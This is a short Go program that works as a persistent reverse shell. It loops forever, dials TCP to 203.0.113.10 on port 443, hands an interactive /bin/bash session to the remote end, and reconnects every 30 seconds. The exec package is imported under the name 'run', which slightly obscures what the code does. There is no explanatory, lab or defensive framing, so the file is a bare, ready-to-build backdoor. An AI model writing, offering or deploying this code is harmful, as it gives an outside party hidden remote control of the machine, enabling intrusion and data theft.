package main

import (
	"io"
	"net"
	run "os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.10:443")
		if err == nil {
			var in io.Reader = c
			var out io.Writer = c
			sh := run.Command("/bin/bash", "-i")
			sh.Stdin, sh.Stdout, sh.Stderr = in, out, out
			sh.Run()
		}
		time.Sleep(30 * time.Second)
	}
}
